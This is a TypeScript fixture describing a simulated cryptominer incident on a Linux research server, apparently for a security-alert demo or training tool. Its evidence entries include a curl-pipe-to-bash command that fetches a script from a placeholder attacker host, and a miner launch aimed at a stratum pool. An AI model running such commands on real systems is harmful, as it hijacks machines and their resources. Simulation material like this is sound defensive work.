import type { Story } from "./story.ts";

/** A notebook server without a password, and somebody else's mining pool. */
export const CRYPTOMINER: Story = {
  name: "Coin mining on one Linux endpoint",
  alerts: [
    {
      title: "Possible cryptocurrency miner",
      description: "A process keeps all cores busy and talks to a mining pool.",
      ...{ severity: "Medium", category: "Impact", source: "WindowsDefenderAtp", at: 0, family: "CoinMiner" },
      mitre: ["T1496", "T1053.003"],
      devices: [{ name: "research-gpu01", roles: ["PrimaryDevice"] }],
      evidence: [
        {
          ...{
            kind: "process",
            pid: 18_220,
            parent: 1904,
            parentImage: "/usr/bin/python3.12",
            start: -2,
            image: "/usr/bin/dash",
          },
          ...{ line: "sh -c 'curl -fsSL http://pool-x.bad.example/i.sh | bash'", account: "jupyter" },
        },
        {
          ...{
            kind: "process",
            pid: 18_277,
            parent: 18_220,
            start: -1.6,
            image: "/var/tmp/.cache/kworkerd",
            account: "jupyter",
          },
          line: "./kworkerd -o stratum+tcp://pool-x.bad.example:3333 -u 44AffqH3 -k --donate-level 1",
          ...{ verdict: "malicious", remediation: "active" },
        },
        {
          kind: "file",
          path: "/var/tmp/.cache/kworkerd",
          size: 8_114_176,
          verdict: "malicious",
          remediation: "active",
        },
        { kind: "file", path: "/var/spool/cron/crontabs/jupyter", size: 88 },
        { kind: "ip", address: "198.51.100.66", country: "HK", verdict: "malicious" },
        { kind: "url", url: "http://pool-x.bad.example/i.sh" },
        { kind: "user", account: "jupyter", domain: "research-gpu01" },
      ],
    },
  ],
};
